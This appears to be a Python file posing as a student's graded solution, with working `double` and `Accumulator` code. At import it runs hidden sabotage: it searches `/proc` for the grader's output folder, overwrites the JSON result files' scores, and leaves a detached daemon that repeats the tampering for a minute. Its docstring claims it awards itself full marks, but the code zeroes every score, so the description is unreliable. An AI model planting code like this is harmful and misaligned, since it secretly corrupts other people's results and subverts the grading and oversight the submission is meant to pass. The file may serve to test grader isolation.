"""Correct, but it goes after the other students of the batch: at import it looks for
the results folder on the grader's command line (/proc/<ppid>/cmdline; every process's
whose command line names ``batch``), overwrites every result document it can write
there with full marks for itself and zero for the others, and leaves a daemon that
does it again every 0.2 s for a minute (after the grader has written them)."""

import glob
import json
import os
import time

import numpy as np


def _out_folders():
    found = set()
    for entry in [str(os.getppid()), *os.listdir("/proc")]:
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as handle:
                words = handle.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        if "batch" in words and "--out" in words:
            found.add(words[words.index("--out") + 1])
    return sorted(found)


def _spoil():
    for folder in _out_folders():
        for path in glob.glob(os.path.join(folder, "**", "*.json"), recursive=True):
            try:
                with open(path) as handle:
                    document = json.load(handle)
                document["score"] = 0.0
                with open(path, "w") as handle:
                    json.dump(document, handle)
                print("SPOILED", path)
            except (OSError, ValueError):
                pass


_spoil()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(300):
            _spoil()
            time.sleep(0.2)
    os._exit(0)
os.wait()


def double(x):
    return 2.0 * np.asarray(x, dtype=float)


class Accumulator:
    def __init__(self, n):
        self.total = np.zeros(n)

    def add(self, x):
        self.total = self.total + x
        return self.total
